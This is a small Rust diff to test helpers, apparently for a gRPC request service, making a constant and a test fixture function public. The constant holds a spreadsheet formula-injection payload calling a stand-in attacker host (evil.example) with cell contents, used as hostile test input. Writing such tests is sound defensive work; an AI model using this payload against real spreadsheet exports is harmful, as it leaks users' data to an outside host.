@@ -12,7 +12,7 @@ use tonic::{Code, Status};
 
 use crate::support::{people::Person, shell::Shell, world::World};
 
-const EVIL: &str = "=HYPERLINK(\"http://evil.example/\"&A1); -1 and more";
+pub const EVIL: &str = "=HYPERLINK(\"http://evil.example/\"&A1); -1 and more";
 
 async fn listed(
     person: &mut Person,
@@ -43,7 +43,7 @@ async fn count(person: &mut Person, filter: &RequestFilter) -> i64 {
 }
 
 /// One that was held and given back, one that was denied, and one that waits.
-async fn three(world: &World) -> [Request; 3] {
+pub async fn three(world: &World) -> [Request; 3] {
     let (mut alice, mut bob, mut olivia) =
         (world.person("alice").await, world.person("bob").await, world.person("olivia").await);
     let minutes = Duration::from_mins(10);
